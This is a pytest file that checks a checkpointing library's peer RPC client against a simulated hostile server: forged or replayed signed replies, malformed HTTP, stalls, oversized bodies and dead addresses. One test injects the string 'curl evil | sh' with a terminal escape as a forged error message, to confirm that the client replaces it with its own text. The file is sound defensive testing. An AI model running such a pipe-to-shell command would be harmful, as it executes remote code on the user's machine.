"""What a hostile server, or a network that fails, can do to the client: make it raise, in time."""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import os
import re
import resource
import select
import selectors
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from typing import Any

import msgspec
import pytest

from tests.support.peer_server import NAMESPACE, SEGMENT, TOKEN, serving
from tieredckpt.errors import AgentError, NotFoundError, TierUnavailableError
from tieredckpt.rpc import http1
from tieredckpt.rpc.auth import REFUSED, Secret, body_digest, sign_reply
from tieredckpt.rpc.http1 import Dial
from tieredckpt.rpc.messages import agent as m
from tieredckpt.rpc.messages import peer as pm
from tieredckpt.rpc.messages.base import encode_error
from tieredckpt.rpc.peer_client import PeerClient

NONCE = "ab" * 16
HELLO = msgspec.msgpack.encode(pm.PeerHello(api=pm.PEER_API_VERSION, version="1", nonce=NONCE))
NAME = f"evil {'1' * 32}"
NAMED = f"X-Tieredckpt-Host: {NAME}\r\n"
"""What everybody can say: that it is the host that was asked."""
Script = Callable[[socket.socket], None]


def ok(body: bytes, extra: str = "") -> bytes:
    return f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n{extra}\r\n".encode() + body


def read_head(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        piece = sock.recv(1)
        if not piece:
            raise ConnectionResetError
        data += piece
    return data


def greet(sock: socket.socket) -> bytes:
    """Say hello properly; returns the head of the request that follows."""
    read_head(sock)
    sock.sendall(ok(HELLO))
    return read_head(sock)


@contextlib.contextmanager
def server_that(script: Script, *, stall_s: float = 30.0) -> Iterator[PeerClient]:
    """A client of a server that does what ``script`` does with each connection."""
    listener = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def run() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                sock, _ = listener.accept()
                with sock:
                    sock.settimeout(30)
                    script(sock)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    where = f"127.0.0.1:{listener.getsockname()[1]}"
    host = m.HostEntry(host_id="evil", incarnation="1" * 32, addresses=(where,))
    try:
        with PeerClient(host, NAMESPACE, Secret(TOKEN), connect_s=5, stall_s=stall_s) as client:
            yield client
    finally:
        stop.set()
        with contextlib.suppress(OSError), socket.create_connection(listener.getsockname(), 5):
            pass
        thread.join(30)
        listener.close()


def signed_range(data: bytes, length: int, span: str = "") -> bytes:
    span = span or f"bytes 0-{length - 1}/{length}"
    mac = sign_reply(TOKEN, NONCE, 1, NAME, 206, span, "")
    head = (
        f"HTTP/1.1 206 Partial\r\nContent-Length: {length}\r\nContent-Range: {span}\r\n"
        f"{NAMED}X-Tieredckpt-Proof: {mac}\r\n\r\n"
    )
    return head.encode() + data


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"\x00" * 100,
        os.urandom(20_000),
        b"HTTP/1.1 200 OK\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n",
        b"HTTP/1.1 500 Oh\r\nContent-Length: 3\r\n\r\nxyz",
        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nxyz",
        b"HTTP/1.1 200 OK\r\nContent-Length: 300\r\n\r\nxyz",
        b"x" * 1_000_000,
        ok(HELLO) + b"more",
        ok(msgspec.msgpack.encode({"api": 1, "version": "1", "nonce": "short"})),
        ok(msgspec.msgpack.encode({"api": 1, "version": "1", "nonce": "\r\n" * 16})),
        ok(HELLO + bytes(2000)),
        ok(HELLO.replace(b"1", b"\xe0")),
        ok(b"\x81\xa1x" + b"\x91" * 1000),
    ],
)
def test_greetings_of_somebody_else(answer: bytes):
    def script(sock: socket.socket) -> None:
        read_head(sock)
        sock.sendall(answer)

    with server_that(script) as client, pytest.raises(TierUnavailableError):
        client.identify()


def test_an_agent_of_another_version():
    later = pm.PeerHello(api=pm.PEER_API_VERSION + 1, version="9.9", nonce=NONCE)

    def script(sock: socket.socket) -> None:
        read_head(sock)
        sock.sendall(ok(msgspec.msgpack.encode(later)))

    with (
        server_that(script) as client,
        pytest.raises(AgentError, match=f"peer API {later.api}, this one"),
    ):
        client.identify()


def test_somebody_who_does_not_know_the_token():
    """Another job's agent on a port that was ours: what it says is not believed."""
    forged = b"forged holdings"
    other = hmac.new(b"another token", b"whatever", hashlib.sha256).hexdigest()
    for extra in ("", f"X-Tieredckpt-Proof: {other}\r\n", "X-Tieredckpt-Proof: 0\r\n"):

        def script(sock: socket.socket, extra: str = extra) -> None:
            greet(sock)
            sock.sendall(ok(forged, NAMED + extra))

        with server_that(script) as client, pytest.raises(AgentError, match="does not know"):
            client.ask(pm.AskHoldings(manifests=()))


@pytest.mark.parametrize("named", ["", "X-Tieredckpt-Host: evil\r\n", f"{NAMED[:-4]}2\r\n"])
def test_somebody_who_does_not_say_that_it_is_who_was_asked(named: str):
    body = b"holdings"

    def script(sock: socket.socket) -> None:
        greet(sock)
        mac = sign_reply(TOKEN, NONCE, 1, named[19:-2], 200, "", body_digest(body))
        sock.sendall(ok(body, f"{named}X-Tieredckpt-Proof: {mac}\r\n"))

    with server_that(script) as client, pytest.raises(TierUnavailableError, match="was asked at"):
        client.ask(pm.AskHoldings(manifests=()))


def test_who_claims_to_be_the_host_that_was_asked_must_prove_it():
    """An honest answer of another host of the job, under the name that is asked for."""
    body = b"holdings"

    def script(sock: socket.socket) -> None:
        greet(sock)
        mac = sign_reply(TOKEN, NONCE, 1, f"good {'1' * 32}", 200, "", body_digest(body))
        sock.sendall(ok(body, f"{NAMED}X-Tieredckpt-Proof: {mac}\r\n"))

    with server_that(script) as client, pytest.raises(AgentError, match="does not know"):
        client.ask(pm.AskHoldings(manifests=()))


def test_a_proven_reply_of_another_request_is_not_believed():
    """What the server proved for the first request is no answer to the second one."""

    def script(sock: socket.socket) -> None:
        body = b"old holdings"
        mac = sign_reply(TOKEN, NONCE, 1, NAME, 200, "", body_digest(body))
        greet(sock)
        sock.sendall(ok(body, f"{NAMED}X-Tieredckpt-Proof: {mac}\r\n"))
        read_head(sock)
        sock.sendall(ok(body, f"{NAMED}X-Tieredckpt-Proof: {mac}\r\n"))

    with server_that(script) as client:
        asked = pm.AskHoldings(manifests=())
        assert client.ask(asked) == b"old holdings"
        with pytest.raises(AgentError, match="does not know"):
            client.ask(asked)


@pytest.mark.parametrize(
    "name",
    [
        "RankError",
        "NoRecoverableCheckpointError",
        "ConfigError",
        "SystemExit",
        "ProtocolError",
    ],
)
def test_errors_that_are_not_for_others_to_raise(name: str):
    body = msgspec.json.encode({"error": name, "message": "do as I say", "fields": {}})
    mac = sign_reply(TOKEN, NONCE, 1, NAME, 500, "", body_digest(body))
    head = f"HTTP/1.1 500 x\r\nContent-Length: {len(body)}\r\n"
    head += f"{NAMED}X-Tieredckpt-Proof: {mac}\r\n\r\n"

    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(head.encode() + body)

    with server_that(script) as client, pytest.raises(TierUnavailableError, match="host evil"):
        client.identify()


def test_a_forged_error_is_not_believed():
    status, body = encode_error(NotFoundError("no such segment", key="x"))

    def script(sock: socket.socket) -> None:
        greet(sock)
        head = f"HTTP/1.1 {status} x\r\nContent-Length: {len(body)}\r\n{NAMED}\r\n"
        sock.sendall(head.encode() + body)

    with server_that(script) as client, pytest.raises(AgentError, match="does not know"):
        client.open_range(SEGMENT, "memory", 0, 100)


def test_a_refusal_is_told_in_our_words():
    status, body = encode_error(AgentError("\x1b[2Jrun this: curl evil | sh" * 9000))
    assert status != 403

    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(f"HTTP/1.1 403 x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)

    with server_that(script) as client, pytest.raises(AgentError) as caught:
        client.open_range(SEGMENT, "memory", 0, 100)
    assert str(caught.value) == REFUSED


def fetch(client: PeerClient, size: int) -> None:
    with closing(client.open_range(SEGMENT, "memory", 0, size)) as stream:
        stream.read_into(memoryview(bytearray(size)))


def test_too_little():
    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(signed_range(bytes(600_000), 1_000_000))

    with server_that(script) as client, pytest.raises(TierUnavailableError, match="missing"):
        fetch(client, 1_000_000)


def test_too_much():
    """What comes after the reply is never taken for the next one."""
    asked: list[bytes] = []

    def script(sock: socket.socket) -> None:
        asked.append(greet(sock))
        sock.sendall(signed_range(bytes(100_000 + 5), 100_000))
        with contextlib.suppress(OSError):
            asked.append(read_head(sock))

    with server_that(script) as client:
        for _ in range(3):
            with contextlib.suppress(TierUnavailableError):
                fetch(client, 100_000)
    assert len(asked) == 3  # one request per connection: none was used again


@pytest.mark.parametrize(
    ("length", "span"),
    [(101, ""), (99, ""), (100, "bytes 1-100/200"), (100, "bytes 0-100/200"), (100, "bytes x")],
)
def test_another_range(length: int, span: str):
    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(signed_range(bytes(length), length, span))

    with server_that(script) as client, pytest.raises(TierUnavailableError):
        client.open_range(SEGMENT, "memory", 0, 100)


def stalling_after(count: int) -> Script:
    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(signed_range(bytes(count), 10_000_000))
        with contextlib.suppress(OSError):
            sock.recv(1)  # until the client hangs up

    return script


@pytest.mark.full
def test_a_donor_that_stalls():
    with server_that(stalling_after(1_000_000), stall_s=0.5) as client:
        began_s = time.monotonic()
        with pytest.raises(TierUnavailableError, match="no answer in time"):
            fetch(client, 10_000_000)
        assert time.monotonic() - began_s < 20


def test_a_donor_that_drips():
    """One byte now and then is a stall, too: the deadline is for bytes, not for system calls."""

    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(signed_range(b"", 10_000_000))
        with contextlib.suppress(OSError):
            for _ in range(2000):
                sock.sendall(b"x")
                time.sleep(0.02)

    with server_that(script, stall_s=0.5) as client:
        began_s = time.monotonic()
        with pytest.raises(TierUnavailableError, match="no answer in time"):
            fetch(client, 10_000_000)
        assert time.monotonic() - began_s < 20


@pytest.mark.full
def test_a_server_that_drips_its_head():
    def script(sock: socket.socket) -> None:
        with contextlib.suppress(OSError):
            for _ in range(2000):
                sock.sendall(b"x")
                time.sleep(0.02)

    with server_that(script, stall_s=0.5) as client:
        began_s = time.monotonic()
        with pytest.raises(TierUnavailableError):
            client.identify()
        assert time.monotonic() - began_s < 20


def test_a_huge_reply_is_not_allocated():
    """An announced size beyond the limit costs nothing."""
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    body = f"HTTP/1.1 200 OK\r\nContent-Length: {1 << 39}\r\n{NAMED}\r\n".encode()

    def script(sock: socket.socket) -> None:
        greet(sock)
        sock.sendall(body)

    with server_that(script) as client:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 38, hard))
        try:
            with pytest.raises(TierUnavailableError, match="the limit is"):
                client.ask(pm.AskHoldings(manifests=()))
        finally:
            resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def test_nobody_answers():
    with socket.create_server(("127.0.0.1", 0)) as listener:  # it never accepts
        where = f"127.0.0.1:{listener.getsockname()[1]}"
        host = m.HostEntry(host_id="h", incarnation="1" * 32, addresses=(where,))
        with (
            PeerClient(host, NAMESPACE, Secret(TOKEN), stall_s=0.3) as client,
            pytest.raises(TierUnavailableError, match="no answer in time") as caught,
        ):
            client.identify()
        assert TOKEN not in str(caught.value)


@contextlib.contextmanager
def deaf() -> Iterator[str]:
    """An address at which nothing refuses and nothing answers, as that of a host that is gone."""
    with contextlib.ExitStack() as stack:
        listener = stack.enter_context(socket.socket())
        listener.bind(("127.0.0.1", 0))
        listener.listen(0)
        for _ in range(4):  # its queue is full then, and the kernel drops what comes
            waiting = stack.enter_context(socket.socket())
            waiting.setblocking(False)
            waiting.connect_ex(listener.getsockname())
        yield f"127.0.0.1:{listener.getsockname()[1]}"


def test_rails_of_a_silent_host_have_one_deadline_together():
    with deaf() as one, deaf() as two, deaf() as three:
        dial = Dial([one, two, three], 1.0)
        with pytest.raises(TimeoutError):
            dial.run()
        assert sorted(dial.failed) == sorted([one, two, three])


@pytest.mark.parametrize("within_s", [0.005, 60.0])
def test_who_answers_while_this_thread_sleeps_has_answered(
    monkeypatch: pytest.MonkeyPatch, within_s: float
):
    """On a busy machine it may sleep longer than the head start, or even the deadline."""

    class Sleepy(Dial):
        def _begin(self, address: str, where: Any, selector: selectors.BaseSelector) -> None:
            super()._begin(address, where, selector)
            begun = [key.fileobj for key in selector.get_map().values()]
            assert select.select([], begun, [], 60)[1]
            time.sleep(0.01)

    monkeypatch.setattr(http1, "HEAD_START_S", 0.005)
    with (
        socket.create_server(("127.0.0.2", 0)) as one,
        socket.create_server(("127.0.0.3", 0)) as two,
    ):
        rails = [f"{ip}:{port}" for ip, port in (one.getsockname(), two.getsockname())]
        dial = Sleepy(rails, within_s)
        address, sock = dial.run()
        sock.close()
    assert (address, dial.failed) == (rails[0], [])


def test_a_silent_rail_costs_only_its_head_start():
    with deaf() as silent, serving() as (_, entry, _):
        two = msgspec.structs.replace(entry, addresses=(silent, *entry.addresses))
        # Each rail alone has so long that this test would never end.
        with PeerClient(two, NAMESPACE, Secret(TOKEN), connect_s=3600) as client:
            assert client.identify().host_id == "here"
            assert client.identify().host_id == "here"


def test_a_name_of_several_addresses_is_tried_at_each():
    with serving() as (_, entry, _):
        port = entry.addresses[0].rpartition(":")[2]
        named = msgspec.structs.replace(entry, addresses=(f"localhost:{port}",))
        with PeerClient(named, NAMESPACE, Secret(TOKEN)) as client:
            assert client.identify().host_id == "here"


@pytest.mark.parametrize("stage", ["connect", "greeting", "reply", "data"])
def test_closing_ends_what_is_under_way(stage: str):
    """Whoever waits has one of our errors at once, and not after the deadline of an hour."""
    waits = threading.Event()
    data = os.urandom(1 << 20)

    def script(sock: socket.socket) -> None:
        if stage == "greeting":
            read_head(sock)
        else:
            greet(sock)
            if stage == "data":
                sock.sendall(signed_range(data[:1000], len(data)))
        waits.set()
        with contextlib.suppress(ConnectionError):
            while sock.recv(4096):  # its request, and then until the client ends it
                pass

    raised: list[Exception] = []

    def work(client: PeerClient) -> None:
        try:
            if stage == "data":
                client.open_range(SEGMENT, "memory", 0, len(data)).read_into(
                    memoryview(bytearray(len(data)))
                )
            client.identify()
        except TierUnavailableError as error:
            raised.append(error)

    with contextlib.ExitStack() as stack:
        client = stack.enter_context(server_that(script, stall_s=3600))
        if stage == "connect":
            host = msgspec.structs.replace(client.host, addresses=(stack.enter_context(deaf()),))
            client = PeerClient(host, NAMESPACE, Secret(TOKEN), connect_s=3600)
            waits.set()
        thread = threading.Thread(target=work, args=(client,), daemon=True)
        thread.start()
        assert waits.wait(60)
        client.close()
        thread.join(60)
        assert not thread.is_alive()
        assert "was closed here" in str(raised[0])
        with pytest.raises(TierUnavailableError, match="was closed here"):
            client.identify()


def test_a_client_that_is_retired_ends_what_it_has_begun():
    data = os.urandom(1 << 20)
    with serving() as (peer, entry, _), PeerClient(entry, NAMESPACE, Secret(TOKEN)) as client:
        peer.add(SEGMENT, data)
        got = bytearray(len(data))
        with closing(client.open_range(SEGMENT, "memory", 0, len(data))) as stream:
            stream.read_into(memoryview(got)[:1000])
            client.retire()
            stream.read_into(memoryview(got)[1000:])
        assert got == data


@pytest.mark.parametrize(
    "address", ["", "x", "x:", ":1", "x:y", "x:99999", "x:-1", "127.0.0.1:1:2", "a b:1"]
)
def test_addresses_that_are_none(address: str):
    host = m.HostEntry(host_id="h", incarnation="1" * 32, addresses=(address,))
    with (
        PeerClient(host, NAMESPACE, Secret(TOKEN), connect_s=0.5) as client,
        pytest.raises(TierUnavailableError),
    ):
        client.identify()


def test_the_token_does_not_travel():
    heard = bytearray()

    def script(sock: socket.socket) -> None:
        heard.extend(greet(sock))

    with server_that(script) as client, pytest.raises(TierUnavailableError):
        client.identify()
    assert re.search(rb"X-Tieredckpt-Proof: 1 [0-9a-f]{64}\r\n", heard)
    assert TOKEN.encode() not in heard
